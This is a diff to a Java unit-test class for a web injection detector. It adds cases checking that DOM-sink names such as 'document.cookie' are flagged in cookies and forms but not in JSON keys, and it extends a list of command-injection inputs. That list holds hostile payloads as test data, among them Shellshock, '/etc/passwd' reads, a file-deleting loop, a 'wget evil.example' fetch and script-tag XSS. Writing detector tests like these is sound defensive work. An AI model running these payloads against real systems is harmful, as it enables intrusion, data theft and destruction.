@@ -93,6 +93,14 @@ class InjectionDetectorsTest {
     }
 
     @Test
+    void parametersNamedAfterDomSinksAreFlaggedButNotJsonKeys() {
+      assertEquals("xss.dom-sink", Detectors.standard().inspect(Category.XSS, Source.COOKIE, "window.location", "941180-3").reason());
+      assertEquals("xss.dom-sink", Detectors.standard().inspect(Category.XSS, Source.FORM, "document.cookie", "x").reason());
+      assertNull(Detectors.standard().inspect(Category.XSS, Source.JSON, "location.href", "https://app.example.com/"));
+      assertNull(Detectors.standard().inspect(Category.XSS, Source.QUERY, "user.location", "Berlin"));
+    }
+
+    @Test
     void userAgentsAreReadForTagsAndHandlersOnly() {
       clean(Category.XSS, Source.HEADER, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0");
       flagged(Category.XSS, Source.HEADER, "<script>alert(1)</script>");
@@ -110,7 +118,7 @@ class InjectionDetectorsTest {
       "/usr/bin/id", "/bin/sh -c id", "& dir c:\\", "| type c:\\windows\\win.ini", "() { :; }; /bin/bash -c id",
       ";system('id')", "for %i in (*) do del %i", "$(($(id)))", "cat /etc/pa[s]swd", "sh -c whoami", "time sh -c whoami",
       "{cat,/etc/passwd}", "c{a,oun}t /etc/hosts", "\\ls", ";env", "IF /I a==b ECHO x", "$SHELL -c id", "|$u wget evil.example",
-      "~+", "~-1", "!-1!-2", "!!", "alias -p x=id", "alias +m a=b", "x&bcdboot /r file.txt", "; regedit /E c:\\x.reg HKEY_CURRENT_USER\\K",
+      "~+", "~-1", "!-1!-2", "!!", "if/i a==b foo", "alias -p x=id", "alias +m a=b", "x&bcdboot /r file.txt", "; regedit /E c:\\x.reg HKEY_CURRENT_USER\\K",
     })
     void attacks(String value) {
       flagged(Category.COMMAND_INJECTION, value);
